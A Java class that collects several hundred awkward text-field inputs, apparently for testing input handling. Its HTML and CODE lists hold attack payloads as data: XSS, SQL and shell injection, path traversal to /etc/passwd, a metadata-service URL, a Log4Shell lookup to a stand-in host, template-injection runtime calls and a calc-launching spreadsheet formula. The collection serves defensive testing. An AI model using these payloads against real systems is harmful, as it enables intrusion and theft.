package org.rovingpm;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** What people, programs and attackers type into a text field, more than 200 kinds of it. */
public final class NaughtyStrings {

    private static final List<String> BARE = List.of("'", "\"", "`", "\\", "''", "\"\"", "'\"'\"", "“quotes”", "‘single’", "«guillemets»", "O'Brien & Sons",
        "null", "NULL", "undefined", "nil", "None", "true", "false", "NaN", "Infinity", "-1", "0", "1e999", "0x7F", "1/0", "00", "01/02/03",
        "🏥", "👩‍⚕️👨🏿‍⚕️", "🇬🇧", "é", "e\u0301", "ñandú", "Łódź", "中文字符", "日本語テキスト", "한국어", "العربية", "עברית", "हिन्दी", "ไทย", "Ελληνικά", "Кириллица",
        "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘", "ﷺ", "ﬀ", "ẞ", "İ", "ı", "\u00A0", "\u2003wide\u2003", "\u200B", "a\u200Bb", "\uFEFFbom", "soft\u00ADhyphen", "𝒞𝓊𝓇𝓈𝒾𝓋ℯ", "˙ɐuƃɐɯ",
        "(╯°□°）╯︵ ┻━┻", "¯\\_(ツ)_/¯", "a\u202Eb", "\u202Dleft", "\u2066isolate\u2069", "\u200Fright", "\u0000", "a\u0000b", "\u0007", "\u001B[31mred\u001B[0m",
        "\u007F", "\u0085", "\uD83D", "\uDE00", "\uFFFD", "\uFFFE", "\uFFFF", "tab\there", "line\nbreak", "line\r\nbreak", "\r", "\n\n\n", "\t");

    private static final List<String> HTML = List.of("<script>alert(1)</script>", "<SCRIPT SRC=//x.example/x.js>", "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>", "<b>bold</b>", "<!-- comment -->", "<![CDATA[x]]>", "<?xml version=\"1.0\"?>", "</textarea><script>alert(1)</script>",
        "\" onfocus=\"alert(1)\" autofocus=\"", "' onmouseover='alert(1)", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>",
        "&lt;script&gt;", "&#60;script&#62;", "&#x3C;script&#x3E;", "&amp;amp;", "< b", "5 < 6 > 4", "a<b", "<3", "<>", "</p>", "<a href=\"//evil.example\">x</a>",
        "<iframe src=//evil.example>", "<style>*{display:none}</style>", "<base href=//evil.example>", "<form action=//evil.example>", "<input name=_csrf>",
        "{{constructor.constructor('alert(1)')()}}", "<%= 7*7 %>", "<#assign x=1>", "\\u003cscript\\u003e", "%3Cscript%3E", "＜script＞");

    private static final List<String> CODE = List.of("' or '1'='1", "'; drop table practice; --", "1; select pg_sleep(5)", "' union select null,null --", "\\'; --",
        "%", "_", "%%%", "admin'--", "$$ $$", "E'\\x00'", "?", ":name", "::jsonb", "{\"a\":1}", "[1,2,3]", "{\"$gt\":\"\"}", "\"}", "\\u0000",
        "${7*7}", "#{7*7}", "*{7*7}", "@{/}", "~{::x}", "__${7*7}__", "__${T(java.lang.Runtime).getRuntime()}__::.x", "#{T(java.lang.System).exit(1)}",
        "${jndi:ldap://x.example/a}", "%s%s%s%n", "%x", "{0}", "{}", "$(id)", "`id`", "; id", "| id", "&& id", "../../etc/passwd", "..\\..\\windows", "/dev/null",
        "file:///etc/passwd", "http://169.254.169.254/", "\\\\server\\share", "C:\\con", "a;b", "a,b", "=1+1", "=cmd|' /C calc'!A0", "+1", "@SUM(1)",
        "a\r\nBcc: x@example.org", "a\nSet-Cookie: x=1", "redirect:/x", "forward:/x", "classpath:x", "class.module.classLoader", "__proto__", "constructor",
        "( ) { :; }; id", "!{x}", "[[${7*7}]]", "[(${7*7})]", "th:text", "(?:a+)+$", "((((((((((", "))))))))))", "[", "\\Q\\E", "\\p{L}", "--", "/*", "*/", "#", "//");

    private NaughtyStrings() {
    }

    public static List<String> all() {
        Set<String> all = new LinkedHashSet<>(BARE);
        all.addAll(HTML);
        all.addAll(CODE);
        Stream.of("x", "wide 中", "<", "&", "'", "🏥", "\n", " ", "a\u0301").forEach(one ->
            IntStream.of(200, 2_001, 20_000).forEach(times -> all.add(one.repeat(times))));
        return new ArrayList<>(all);
    }
}
